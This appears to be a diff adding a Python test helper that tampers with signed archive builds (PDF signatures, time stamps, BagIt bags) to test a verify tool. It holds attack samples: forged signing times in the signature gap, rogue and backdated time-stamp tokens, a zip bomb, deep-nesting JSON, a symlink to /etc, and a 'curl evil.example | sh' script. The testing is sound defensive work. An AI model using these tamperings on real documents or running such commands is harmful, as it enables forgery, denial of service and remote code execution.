@@ -1,0 +1,327 @@
+"""What an attacker does to a signed build: one function per attack class of tests/cases/verify/.
+
+Each takes a private copy of the session's signed build (with its bag and time stamps) and the test PKI,
+changes it the way the attack does, and returns the path to hand to `appeal-archive verify`.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import hashlib
+import io
+import json
+import os
+import re
+import struct
+import zipfile
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pikepdf
+
+from conftest import NAME
+
+DEEP_JSON = b"[" * 100_000 + b"]" * 100_000
+
+
+def pdf_of(build: Path) -> Path:
+    return build / f"{NAME}.pdf"
+
+
+def bundle_of(build: Path) -> Path:
+    return build / f"{NAME}.jsonld"
+
+
+def bag_of(build: Path) -> Path:
+    return build / f"{NAME}-bag"
+
+
+def rebag(bag: Path) -> None:
+    """What someone who edits a bag does next: recompute its manifests, so that BagIt alone is satisfied."""
+    import bagit
+
+    bagit.Bag(str(bag)).save(manifests=True)
+
+
+# --- the PDF's unsigned gap -----------------------------------------------------------------------------
+
+
+def _gap(data: bytes) -> tuple[int, int]:
+    first, length, second, _ = (int(value) for value in re.search(
+        rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data).groups())
+    return length, second
+
+
+def _signature_value(data: bytes) -> bytes:
+    from asn1crypto import cms
+
+    start, end = _gap(data)
+    value = bytes.fromhex(data[start + 1:end - 1].decode())
+    return cms.ContentInfo.load(value, strict=False).dump()
+
+
+def _with_cms(data: bytes, der: bytes) -> bytes:
+    start, end = _gap(data)
+    width = end - start - 2
+    hexed = der.hex().encode()
+    assert len(hexed) <= width, "the new signature does not fit the space reserved for it"
+    return data[:start] + b"<" + hexed + b"0" * (width - len(hexed)) + b">" + data[end:]
+
+
+def forged_time_in_gap(build: Path, pki) -> Path:
+    """Part of the zero padding re-encoded as PDF syntax: a signing time readers see but nobody signed."""
+    pdf = pdf_of(build)
+    data = pdf.read_bytes()
+    start, end = _gap(data)
+    der_hex = len(_signature_value(data)) * 2
+    injected = b"> /M (D:19990101000000Z) /Forged <"
+    padding = end - start - 2 - der_hex - len(injected)
+    gap = b"<" + data[start + 1:start + 1 + der_hex] + injected + b"0" * padding + b">"
+    assert len(gap) == end - start
+    pdf.write_bytes(data[:start] + gap + data[end:])
+    return pdf
+
+
+def _restamped_pdf(build: Path, fixed_dt: datetime | None) -> Path:
+    """The PDF signature's time-stamp token replaced by one from a made-up authority, in the unsigned gap."""
+    from asn1crypto import cms
+
+    from pki import rogue_time_stamper
+
+    pdf = pdf_of(build)
+    data = pdf.read_bytes()
+    content = cms.ContentInfo.load(_signature_value(data))
+    signer_info = content["content"]["signer_infos"][0]
+    stamper = rogue_time_stamper(fixed_dt)
+    token = asyncio.run(stamper.async_timestamp(hashlib.sha256(signer_info["signature"].native).digest(), "sha256"))
+    attributes = [attribute for attribute in signer_info["unsigned_attrs"]
+                  if attribute["type"].native != "signature_time_stamp_token"] if signer_info["unsigned_attrs"] else []
+    attributes.append(cms.CMSAttribute({"type": "signature_time_stamp_token", "values": [token]}))
+    signer_info["unsigned_attrs"] = cms.CMSAttributes(attributes)
+    pdf.write_bytes(_with_cms(data, content.dump(force=True)))
+    return pdf
+
+
+def rogue_time_stamp_in_pdf(build: Path, pki) -> Path:
+    return _restamped_pdf(build, None)
+
+
+def backdated_time_stamp_in_pdf(build: Path, pki) -> Path:
+    return _restamped_pdf(build, datetime(2020, 1, 1, tzinfo=UTC))
+
+
+def appended_text_update(build: Path, pki) -> Path:
+    from pyhanko.pdf_utils import generic
+    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
+
+    pdf = pdf_of(build)
+    writer = IncrementalPdfFileWriter(io.BytesIO(pdf.read_bytes()), strict=False)
+    page_ref = writer.root["/Pages"]["/Kids"].raw_get(1)
+    page_ref.get_object()["/Contents"] = writer.add_object(
+        generic.StreamObject(stream_data=b"BT /F1 24 Tf 100 400 Td (signatory withdrawn) Tj ET"))
+    writer.mark_update(page_ref)
+    out = io.BytesIO()
+    writer.write(out)
+    pdf.write_bytes(out.getvalue())
+    return pdf
+
+
+# --- attachments (the file is re-saved, so its signature breaks too: what matters is no crash) -------------
+
+
+def _replace_attachment(build: Path, name: str, content: bytes) -> Path:
+    pdf = pdf_of(build)
+    with pikepdf.open(pdf, allow_overwriting_input=True) as document:
+        document.attachments[name] = pikepdf.AttachedFileSpec(document, content, filename=name.replace("/", "__"))
+        document.save(pdf)
+    return pdf
+
+
+def huge_integer_in_attached_record(build: Path, pki) -> Path:
+    return _replace_attachment(build, "records/rallies/london-2023-05-21.yaml",
+                               b"id: london-2023-05-21\nvalue: " + b"6" * 5000 + b"\n")
+
+
+def deep_json_attached_manifest(build: Path, pki) -> Path:
+    return _replace_attachment(build, "manifest.json", DEEP_JSON)
+
+
+def _zip_with_one_member(flags: int = 0, method: int | None = None) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("records/persons/x.yaml", b"id: x\n")
+    data = bytearray(buffer.getvalue())
+    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        at = data.index(signature)
+        struct.pack_into("<H", data, at + flag_offset, flags)
+        if method is not None:
+            struct.pack_into("<H", data, at + flag_offset + 2, method)
+    return bytes(data)
+
+
+def encrypted_zip_member(build: Path, pki) -> Path:
+    return _replace_attachment(build, "records.zip", _zip_with_one_member(flags=0x1))
+
+
+def unknown_method_zip_member(build: Path, pki) -> Path:
+    return _replace_attachment(build, "records.zip", _zip_with_one_member(method=99))
+
+
+def inflating_attachment(build: Path, pki) -> Path:
+    """A source document attached as 600 KB of deflated zeros that inflate to 600 MB."""
+    import zlib
+
+    compressor, chunk = zlib.compressobj(9), b"\0" * (1 << 20)
+    compressed = b"".join(compressor.compress(chunk) for _ in range(600)) + compressor.flush()
+    pdf = pdf_of(build)
+    with pikepdf.open(pdf, allow_overwriting_input=True) as document:
+        spec = pikepdf.AttachedFileSpec(document, b"placeholder", filename="records__sources__bomb.txt")
+        spec.obj.EF.F.write(compressed, filter=pikepdf.Name.FlateDecode)
+        document.attachments["records/sources/bomb.txt"] = spec
+        document.save(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)
+    return pdf
+
+
+# --- the bundle ---------------------------------------------------------------------------------------
+
+
+def _resigned_bundle(build: Path, content: bytes) -> Path:
+    """The bundle replaced and signed again, by its key holder (the attack tests what verify reads)."""
+    from appeal_archive.sign import SignerConfig, load_key_material, sign_detached, utc_now
+
+    bundle = bundle_of(build)
+    bundle.write_bytes(content)
+    material, _ = load_key_material(SignerConfig(identity_dir=build.parent / "attacker"), utc_now())
+    bundle.with_name(bundle.name + ".p7s").write_bytes(sign_detached(content, material))
+    bundle.with_name(bundle.name + ".tst").unlink()
+    return bundle
+
+
+def _edited_identifier(build: Path, value: str) -> Path:
+    text = bundle_of(build).read_text(encoding="utf-8")
+    return _resigned_bundle(build, text.replace('"identifier": "lukashenka"', f'"identifier": {value}', 1)
+                            .encode("utf-8", "surrogatepass"))
+
+
+def identifier_thirty_digits(build: Path, pki) -> Path:
+    return _edited_identifier(build, "1" * 30)
+
+
+def identifier_1e400(build: Path, pki) -> Path:
+    return _edited_identifier(build, "1e400")
+
+
+def identifier_lone_surrogate(build: Path, pki) -> Path:
+    return _edited_identifier(build, '"\\ud800"')
+
+
+def deep_json_bundle(build: Path, pki) -> Path:
+    return _resigned_bundle(build, DEEP_JSON)
+
+
+def deep_json_manifest_beside_bundle(build: Path, pki) -> Path:
+    (build / "manifest.json").write_bytes(DEEP_JSON)
+    return bundle_of(build)
+
+
+def _rogue_token(data: bytes, fixed_dt: datetime | None) -> bytes:
+    from pki import rogue_time_stamper
+
+    stamper = rogue_time_stamper(fixed_dt)
+    return asyncio.run(stamper.async_timestamp(hashlib.sha256(data).digest(), "sha256")).dump()
+
+
+def rogue_token_beside_bundle(build: Path, pki) -> Path:
+    bundle = bundle_of(build)
+    bundle.with_name(bundle.name + ".tst").write_bytes(_rogue_token(bundle.read_bytes(), None))
+    return bundle
+
+
+def backdated_token_beside_bundle(build: Path, pki) -> Path:
+    bundle = bundle_of(build)
+    bundle.with_name(bundle.name + ".tst").write_bytes(_rogue_token(bundle.read_bytes(),
+                                                                    datetime(2020, 1, 1, tzinfo=UTC)))
+    return bundle
+
+
+# --- the bag ------------------------------------------------------------------------------------------
+
+
+def rebagged_rogue_token(build: Path, pki) -> Path:
+    bag = bag_of(build)
+    bundle = bag / "data" / f"{NAME}.jsonld"
+    bundle.with_name(bundle.name + ".tst").write_bytes(_rogue_token(bundle.read_bytes(), None))
+    rebag(bag)
+    return bag
+
+
+def rebagged_retraction(build: Path, pki) -> Path:
+    bag = bag_of(build)
+    (bag / "data" / "statement.txt").write_text("The signatories retracted this appeal.\n")
+    rebag(bag)
+    return bag
+
+
+def rebagged_script_among_records(build: Path, pki) -> Path:
+    bag = bag_of(build)
+    (bag / "data" / "records" / "persons" / "install.sh").write_text("#!/bin/sh\ncurl evil.example | sh\n")
+    rebag(bag)
+    return bag
+
+
+def rebagged_huge_file(build: Path, pki) -> Path:
+    bag = bag_of(build)
+    with open(bag / "data" / "records" / "sources" / "huge.txt", "wb") as handle:
+        handle.truncate(1 << 30)  # a sparse gigabyte: what costs nothing to make and a lot to hash
+    return bag
+
+
+def rebagged_source_organization(build: Path, pki) -> Path:
+    bag = bag_of(build)
+    info = bag / "bag-info.txt"
+    info.write_text(re.sub(r"Source-Organization: .*", "Source-Organization: Ministry of Truth", info.read_text()))
+    rebag(bag)
+    return bag
+
+
+def rebagged_extra_info_field(build: Path, pki) -> Path:
+    bag = bag_of(build)
+    info = bag / "bag-info.txt"
+    info.write_text(info.read_text() + "Internal-Sender-Description: retracted by the signatories\n")
+    rebag(bag)
+    return bag
+
+
+def rebagged_edited_record(build: Path, pki) -> Path:
+    bag = bag_of(build)
+    person = bag / "data/records/persons/pavel-latushka.yaml"
+    person.write_text(person.read_text().replace("Pavel Latushka", "Paul Latushka", 1))
+    rebag(bag)
+    return bag
+
+
+def deep_json_manifest_in_bag(build: Path, pki) -> Path:
+    bag = bag_of(build)
+    (bag / "data" / "manifest.json").write_bytes(DEEP_JSON)
+    rebag(bag)
+    return bag
+
+
+def symlink_in_bag(build: Path, pki) -> Path:
+    bag = bag_of(build)
+    os.symlink("/etc", bag / "data" / "records" / "etc")
+    return bag
+
+
+def fetch_txt_in_bag(build: Path, pki) -> Path:
+    bag = bag_of(build)
+    (bag / "fetch.txt").write_text("https://evil.example/statement.txt 42 data/statement.txt\n")
+    return bag
+
+
+ATTACKS = {name: value for name, value in globals().items() if callable(value) and not name.startswith("_")
+           and name not in {"pdf_of", "bundle_of", "bag_of", "rebag"} and value.__module__ == __name__}
+
+
+def describe(attack: str) -> str:
+    return json.dumps(attack)
